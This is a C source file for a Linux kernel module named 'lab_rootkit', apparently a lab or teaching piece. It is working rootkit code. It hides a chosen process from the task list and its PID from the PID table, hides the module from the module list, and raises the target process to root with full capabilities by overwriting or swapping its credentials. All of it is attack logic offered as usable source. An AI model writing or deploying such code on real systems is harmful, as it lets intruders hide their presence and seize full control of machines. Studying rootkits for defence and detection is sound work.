// SPDX-License-Identifier: GPL-2.0
/* Tricks on lists of the kernel and on the victim. */
#include "lab_rootkit.h"

#include <linux/capability.h>
#include <linux/cred.h>
#include <linux/idr.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/stop_machine.h>
#include <linux/string.h>

/* The victim: its task and its pid, kept while tricks are at work on it. */

static struct task_struct *victim;
static struct pid *victim_pid;
static int victim_users;

static int victim_get(void)
{
	struct task_struct *task;
	struct pid *number;

	if (victim_users) {
		if (victim_pid->numbers[0].nr != pid)
			return -EBUSY;
		victim_users++;
		return 0;
	}
	number = find_get_pid(pid);
	task = number ? get_pid_task(number, PIDTYPE_PID) : NULL;
	if (!task || strcmp(task->comm, VICTIM) || !thread_group_leader(task)) {
		pr_err("lab_rootkit: pid %d is no process " VICTIM "\n", pid);
		if (task)
			put_task_struct(task);
		put_pid(number);
		return -ESRCH;
	}
	victim = task;
	victim_pid = number;
	victim_users = 1;
	return 0;
}

static void victim_put(void)
{
	if (--victim_users)
		return;
	put_task_struct(victim);
	put_pid(victim_pid);
	victim = NULL;
}

/*
 * Lists change while all CPUs but this one stand still: their locks are not exported, and who holds one has preemption
 * off. An entry that is out points to itself, so that whoever takes it out once more does no harm.
 */
struct unlinking {
	struct list_head *entry, *head;
	const struct task_struct *alive;
};

static int unlink_stopped(void *arg)
{
	struct unlinking *u = arg;

	list_del_init(u->entry);
	return 0;
}

static int relink_stopped(void *arg)
{
	struct unlinking *u = arg;

	/* A task that has ended in the meantime stays out. */
	if (list_empty(u->entry) && (!u->alive || pid_task(victim_pid, PIDTYPE_TGID) == u->alive))
		list_add_tail(u->entry, u->head);
	return 0;
}

int hide_task(void)
{
	struct unlinking u = {};
	int err = victim_get();

	if (err)
		return err;
	u.entry = &victim->tasks;
	return stop_machine(unlink_stopped, &u, NULL);
}

void show_task(void)
{
	struct unlinking u = { &victim->tasks, &init_task.tasks, victim };

	stop_machine(relink_stopped, &u, NULL);
	victim_put();
}

/* The number stays taken; free_pid() finds it as alloc_pid() has left it before the pid was ready. */
static int idr_stopped(void *arg)
{
	void *was = idr_replace(&victim_pid->numbers[0].ns->idr, arg, victim_pid->numbers[0].nr);

	return IS_ERR(was) ? PTR_ERR(was) : 0;
}

int hide_pid(void)
{
	int err = victim_get();

	if (err)
		return err;
	err = stop_machine(idr_stopped, NULL, NULL);
	if (err)
		victim_put();
	return err;
}

static int show_pid_stopped(void *unused)
{
	return pid_task(victim_pid, PIDTYPE_PID) ? idr_stopped(victim_pid) : 0;
}

void show_pid(void)
{
	stop_machine(show_pid_stopped, NULL, NULL);
	victim_put();
}

int hide_module(void)
{
	struct unlinking u = { &THIS_MODULE->list };

	return stop_machine(unlink_stopped, &u, NULL);
}

void show_module(void)
{
	struct unlinking u = { &THIS_MODULE->list, (struct list_head *)addresses[MODULES] };

	stop_machine(relink_stopped, &u, NULL);
}

/* Credentials, written over in place, and swapped for those of the kernel. */
static struct cred cred_was;
static const struct cred *cred_pointer;

static int cred_write(bool ids)
{
	struct cred *cred;
	int err = victim_get();

	if (err)
		return err;
	if (cred_pointer || victim->cred != victim->real_cred) {
		victim_put();
		return -EBUSY;
	}
	cred_pointer = get_cred(victim->cred);
	cred = (struct cred *)cred_pointer;
	cred_was = *cred;
	if (ids) {
		cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
		cred->gid = cred->egid = cred->sgid = cred->fsgid = GLOBAL_ROOT_GID;
	}
	cred->cap_permitted = CAP_FULL_SET;
	cred->cap_effective = CAP_FULL_SET;
	return 0;
}

int cred_on(void)
{
	return cred_write(true);
}

int cred_caps_on(void)
{
	return cred_write(false);
}

void cred_off(void)
{
	struct cred *cred = (struct cred *)cred_pointer;

	cred->uid = cred_was.uid;
	cred->euid = cred_was.euid;
	cred->suid = cred_was.suid;
	cred->fsuid = cred_was.fsuid;
	cred->gid = cred_was.gid;
	cred->egid = cred_was.egid;
	cred->sgid = cred_was.sgid;
	cred->fsgid = cred_was.fsgid;
	cred->cap_permitted = cred_was.cap_permitted;
	cred->cap_effective = cred_was.cap_effective;
	put_cred(cred_pointer);
	cred_pointer = NULL;
	victim_put();
}

static void victim_set_cred(const struct cred *cred)
{
	rcu_assign_pointer(victim->real_cred, cred);
	rcu_assign_pointer(victim->cred, cred);
}

int cred_init_on(void)
{
	int err = victim_get();

	if (err)
		return err;
	if (cred_pointer || victim->cred != victim->real_cred) {
		victim_put();
		return -EBUSY;
	}
	/* Its references stay with what the victim had. */
	cred_pointer = victim->cred;
	victim_set_cred(init_task.cred);
	return 0;
}

void cred_init_off(void)
{
	/* One that has ended has given back what was not its own. */
	if (pid_task(victim_pid, PIDTYPE_PID) == victim)
		victim_set_cred(cred_pointer);
	cred_pointer = NULL;
	victim_put();
}
